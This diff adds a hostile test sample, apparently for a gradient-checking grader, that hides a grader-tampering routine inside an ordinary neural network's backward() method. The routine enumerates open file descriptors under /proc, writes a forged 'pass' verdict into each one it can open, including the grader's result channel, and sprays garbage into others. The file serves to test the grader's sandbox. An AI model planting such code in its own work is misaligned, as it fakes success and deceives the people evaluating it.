@@ -1,0 +1,77 @@
+"""Hostile (expected status: pass): backward lists its own and every visible process's open file descriptors through /proc, writes into each one it can open (the inherited stdout, stderr and the result channel included), and reads back what the grader gave it on stdin. stdin is /dev/null by then, and what it wrote into the channel is replaced by the worker's answer; the honest gradient passes."""
+import os; assert os.path.basename(os.path.dirname(os.path.abspath(__file__))) != "hostile", "audit it, never run it"
+
+import numpy as np
+
+
+def _require_sandbox():
+    # the top-level assert is skipped when only definitions are loaded: check again right
+    # before doing anything nasty. The auditor runs a copy of this file (never the file in
+    # examples/hostile); nothing in its environment says that it is being audited.
+    if os.path.basename(os.path.dirname(os.path.abspath(__file__))) == "hostile":
+        raise RuntimeError("hostile example: audit it (python -m gradcheck audit), never run it")
+
+def _attack():
+    import glob
+    _require_sandbox()
+    print("stdin:", repr(os.read(0, 100)))
+    for link in glob.glob("/proc/*/fd/*"):
+        try:
+            target = os.readlink(link)
+        except OSError:
+            continue
+        print("FD", link, "->", target)
+        try:
+            fd = os.open(link, os.O_WRONLY | os.O_APPEND)
+            os.write(fd, b'{"ok": true, "status": "pass"}')
+            os.close(fd)
+        except OSError as exc:
+            print("  not writable:", exc.strerror)
+    for fd in range(3, 32):
+        try:
+            os.write(fd, b"garbage from a submission")
+        except OSError:
+            pass
+
+
+def sigmoid(z):
+    return 1.0 / (1.0 + np.exp(-z))
+
+
+class NeuralNetwork:
+    """2-4-1 sigmoid network, binary cross-entropy, in-place gradient descent."""
+
+    def __init__(self, input_size=2, hidden_size=4, output_size=1):
+        self.W1 = np.random.randn(input_size, hidden_size) * 0.5
+        self.b1 = np.zeros((1, hidden_size))
+        self.W2 = np.random.randn(hidden_size, output_size) * 0.5
+        self.b2 = np.zeros((1, output_size))
+
+    def forward(self, X):
+        self.a1 = sigmoid(X @ self.W1 + self.b1)
+        self.a2 = sigmoid(self.a1 @ self.W2 + self.b2)
+        return self.a2
+
+    def backward(self, X, y, learning_rate=0.1):
+        _attack()
+        n = y.shape[0]
+        dz2 = (self.a2 - y) / n          # sigmoid + cross-entropy: dL/dz2
+        dW2 = self.a1.T @ dz2
+        db2 = dz2.sum(axis=0, keepdims=True)
+        dz1 = (dz2 @ self.W2.T) * self.a1 * (1 - self.a1)
+        dW1 = X.T @ dz1
+        db1 = dz1.sum(axis=0, keepdims=True)
+        self.W1 -= learning_rate * dW1
+        self.b1 -= learning_rate * db1
+        self.W2 -= learning_rate * dW2
+        self.b2 -= learning_rate * db2
+
+
+if __name__ == "__main__":
+    X = np.array([[0, 0], [0, 1], [1, 0], [1, 1]], dtype=float)
+    y = np.array([[0], [1], [1], [0]], dtype=float)
+    net = NeuralNetwork()
+    for epoch in range(10000):
+        net.forward(X)
+        net.backward(X, y, 0.5)
+    print(net.forward(X).round(3))
